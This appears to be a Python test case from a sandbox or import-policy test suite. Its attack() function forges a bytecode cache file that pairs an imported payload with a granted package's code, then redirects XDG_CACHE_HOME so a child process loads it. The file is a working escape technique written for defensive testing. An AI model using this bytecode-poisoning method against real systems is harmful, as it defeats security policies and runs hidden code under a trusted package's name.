"""XDG_CACHE_HOME is planted, with compiled code of a granted package."""
CATEGORY = "ways out"
REACH = "net"
POLICIES = "baseline"
SILENT = "The child has the cache that its parent has."

import hashlib
import marshal
import os
import struct
import sys
from importlib.util import MAGIC_NUMBER, source_hash

from . import payload


def attack():
    import _imp
    import good
    if not _imp.has_policy():
        return payload.act()
    with open(good.__file__) as file:
        code = compile(payload.SOURCE + "\n" + file.read(), good.__file__,
                       "exec")
    body = marshal.dumps(code)
    status = os.stat(good.__file__)
    header = struct.pack(
        "<IIQQQQQ", 0x31637069, int.from_bytes(MAGIC_NUMBER, "little"),
        status.st_size, status.st_ino, status.st_mtime_ns,
        status.st_ctime_ns, int.from_bytes(_imp.source_hash(
            0x31637069, body), "little"))
    text = f"{sys.version}\n0\n{good.__file__}"
    name = hashlib.sha256(text.encode()).hexdigest()[:32]
    path = payload.ROOT + "/tmp/cpython-importpolicy/bytecode"
    os.makedirs(path, 0o700)
    with open(f"{path}/__init__-{name}.pyc", "wb") as file:
        file.write(header + body)
    os.environ["XDG_CACHE_HOME"] = payload.ROOT + "/tmp"
